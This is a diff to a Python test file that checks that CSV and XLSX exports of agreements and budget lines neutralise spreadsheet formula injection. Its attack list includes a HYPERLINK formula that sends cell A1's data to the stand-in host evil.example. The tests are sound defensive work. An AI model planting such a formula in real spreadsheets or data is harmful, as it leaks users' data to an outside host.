@@ -13,6 +13,7 @@ import pytest
 from openpyxl import load_workbook
 
 from ponti.core.exports import safe_cell, safe_row
+from tests.exports.helpers import body
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Apri")',
@@ -62,7 +63,7 @@ def test_the_agreements_csv_export_neutralises_formulas(
     client.force_login(personas["ufficio"])
     response = client.get("/accordi/", {"export": "csv"})
     assert response.status_code == 200
-    rows = _csv_rows(response.content)[1:]
+    rows = _csv_rows(body(response))[1:]
     titles = {row[1] for row in rows}
     partners = {row[4] for row in rows}
     assert titles == {"'" + text for text in ATTACKS}
@@ -78,7 +79,7 @@ def test_the_agreements_xlsx_export_neutralises_formulas(
     client.force_login(personas["ufficio"])
     response = client.get("/accordi/", {"export": "xlsx"})
     assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(response.content)).active
+    sheet = load_workbook(io.BytesIO(body(response))).active
     assert sheet is not None
     cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
@@ -104,8 +105,8 @@ def _check_budget_sheet(content: bytes) -> None:
     row = [cell for cell in sheet[2]]
     assert not [c.coordinate for c in row if c.data_type == "f"]
     values = [c.value for c in row]
-    assert values[1] == "'-1450" and values[2] == "'" + ATTACKS[0]
-    assert values[8] == 1000  # the amounts stay numbers
+    assert values[2] == "'-1450" and values[3] == "'" + ATTACKS[0]
+    assert values[9] == 1000  # the amounts stay numbers
 
 
 def test_the_budget_lines_xlsx_neutralises_formulas_on_the_page_and_in_the_api(
@@ -115,7 +116,7 @@ def test_the_budget_lines_xlsx_neutralises_formulas_on_the_page_and_in_the_api(
     client.force_login(personas["responsabile"])
     page = client.get("/programmazione/capitoli/capitoli.xlsx")
     assert page.status_code == 200
-    _check_budget_sheet(page.content)
+    _check_budget_sheet(body(page))
     api = api_as("responsabile").get("/budget-lines/export.xlsx")
     assert api.status_code == 200
-    _check_budget_sheet(api.content)
+    _check_budget_sheet(body(api))
